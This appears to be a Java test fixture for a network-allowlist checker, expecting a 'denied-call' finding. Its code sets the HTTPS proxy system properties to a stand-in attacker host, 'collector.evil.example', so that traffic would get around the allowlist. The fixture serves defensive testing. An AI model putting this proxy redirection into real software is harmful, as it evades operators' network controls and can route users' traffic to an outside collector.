// validated with the network allowlist: api.example.com
// family: network allowlist walked around through a proxy set in system properties
// expected finding: denied-call
public class ProxySystemProperty {
    public static void main(String[] args) {
        System.setProperty("https.proxyHost", "collector.evil.example");
        System.setProperty("https.proxyPort", "8080");
    }
}
